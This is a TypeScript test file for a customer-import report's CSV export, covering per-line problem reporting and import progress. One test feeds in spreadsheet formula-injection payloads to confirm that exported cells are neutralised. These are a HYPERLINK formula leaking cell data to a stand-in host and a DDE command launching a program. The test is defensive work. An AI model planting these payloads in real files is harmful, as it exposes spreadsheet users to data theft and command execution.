import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { openTestDesk, type TestDesk } from '#lib/db/test-desk.test-support.ts';
import { fileOf } from '#lib/use-cases/import/book-desk.test-support.ts';
import { arnOf, importDesk } from '#lib/use-cases/import/import.test-support.ts';
import { runImport } from '#lib/use-cases/import/run-import.ts';
import { hasImport, reportCsv, type ReportOf } from './import-report.ts';

let desk: TestDesk;
beforeAll(async () => {
  desk = await openTestDesk({ oldKeys: false });
});
afterAll(() => desk.close());

type Line = Record<'line' | 'customer' | 'result' | 'column' | 'value' | 'problem', string>;

async function textOf(importId: string, of: ReportOf): Promise<string> {
  let text = '';
  for await (const part of reportCsv({ db: desk.db }, { importId, of }, new AbortController().signal)) text += part;
  return text;
}
const linesOf = async (importId: string, of: ReportOf): Promise<Line[]> =>
  parse(await textOf(importId, of), { columns: true, bom: true });

it('names every problem by line and column, with what the file has there, and says of the customer’s other rows why they stay out', async () => {
  const { judge } = importDesk(desk);
  const { id } = await judge(
    fileOf([
      { customer: 'Acme Foods', time_zone: 'CEST', external_id: 'a b' },
      { customer: 'Acme Foods', aws_account: '111122223333' },
      { customer: 'Bolt Motors' },
      { workspace: 'Main', region: 'eu-west-1' },
    ]),
  );
  expect(await linesOf(id, 'problems')).toMatchObject([
    { line: '2', customer: 'Acme Foods', result: 'left out', column: 'external_id', value: 'a b' },
    { line: '2', customer: 'Acme Foods', column: 'time_zone', value: 'CEST' },
    {
      line: '3',
      customer: 'Acme Foods',
      column: '',
      value: '',
      problem: 'Another row of this customer has a problem.',
    },
    { line: '5', customer: '', column: 'customer', problem: 'Every row needs a customer.' },
  ]);
});

it('begins no cell as a formula, whatever the file has in it, and can be read back', async () => {
  const { judge } = importDesk(desk);
  const evil = '=HYPERLINK("http://evil.test?"&A1,"click")';
  const { id } = await judge(
    fileOf([
      { customer: evil, time_zone: '@SUM(1)', region: '+1+1' },
      { customer: '-2+3', external_id: "=cmd|' /C calc'!A0", service_level: `\t${evil}` },
      { customer: `a\n${evil}`, aws_account: '=1' },
    ]),
  );
  for (const of of ['problems', 'rows'] as const) {
    const text = await textOf(id, of);
    expect(text.match(/(?:^|,|\n|\uFEFF)"[=+\-@\t\r]/g)).toBeNull();
    expect((await linesOf(id, of)).map(({ customer }) => customer)).toContain(`'${evil}`);
  }
});

it('says of every row of an import what became of it, before it runs, in the middle and at its end', async () => {
  const { judge, accept, deps } = importDesk(desk);
  const known = await judge('customer\nCrane Steel\n');
  await accept(known.id);
  await runImport(deps, known.id);
  const rows = Array.from({ length: 300 }, (_, n) => ({
    customer: `Dale ${n * 37 + 100} Farms ${n}`,
    workspace: 'Main',
    key_arn: arnOf(n),
    role: 'active',
  }));
  const { id } = await judge(fileOf([{ customer: 'Crane Steel' }, { customer: 'Elm', time_zone: 'no' }, ...rows]));
  const results = async () =>
    Object.groupBy(await linesOf(id, 'rows'), ({ result }) => result.replaceAll(' ', '_')) as Record<string, Line[]>;
  expect(await results()).toMatchObject({
    in_the_book_already: { length: 1 },
    left_out: { length: 1 },
    not_imported_yet: { length: 300 },
  });

  await accept(id);
  let parts = 0;
  await runImport(deps, id, () => (parts += 1) > 1);
  const middle = await results();
  const inBook = await desk.rows<{ name: string }>(
    `select c.name from customers c join workspaces w on w.customer_id = c.id order by c.name`,
  );
  expect(middle['imported']?.map(({ customer }) => customer).toSorted()).toEqual(
    inBook.map(({ name }) => name).toSorted(),
  );
  expect(middle['not_imported_yet']?.length).toBe(300 - inBook.length);
  expect(inBook.length).toBeGreaterThan(0);
  expect(inBook.length).toBeLessThan(300);

  await runImport(deps, id);
  expect(await results()).toMatchObject({ imported: { length: 300 }, left_out: { length: 1 } });
  expect(await linesOf(id, 'rows')).toHaveLength(302);
});

it('is about an import that is there', async () => {
  const { judge } = importDesk(desk);
  const { id } = await judge('customer\nFern Bank\n');
  expect(await hasImport({ db: desk.db }, id)).toBe(true);
  expect(await hasImport({ db: desk.db }, '018f2f3e-7c11-7a3b-8d2e-0000000000ab')).toBe(false);
});
